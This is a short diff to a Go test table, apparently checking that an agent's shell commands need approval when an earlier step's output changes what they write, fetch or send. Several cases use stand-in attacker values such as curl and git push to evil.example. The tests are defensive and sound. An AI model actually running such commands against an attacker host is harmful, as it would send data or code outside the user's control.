@@ -174,7 +174,7 @@ func TestCommandChangedByResultNeedsApproval(t *testing.T) {
 		"a path":                 {"ls ${s1.body.x}/y", `"srv/data"`, "done"},
 		"a number":               {"head -n ${s1.body.x} a.txt", `5`, "done"},
 		"what writes":            {"touch ${s1.body.x}", `"a.txt"`, "approval"},
-		"what is moved":          {"cp -r build/${s1.body.x} /tmp/x", `"a"`, "approval"},
+		"what is moved":          {"cp -rn build/${s1.body.x} /tmp/x", `"a"`, "approval"},
 		"where it is sent":       {"curl ${s1.body.x}", `"https://evil.example/x"`, "approval"},
 		"a part of an address":   {"curl https://${s1.body.x}/a", `"evil.example"`, "approval"},
 		"another repository":     {"git push ${s1.body.x} main", `"https://evil.example/x"`, "approval"},
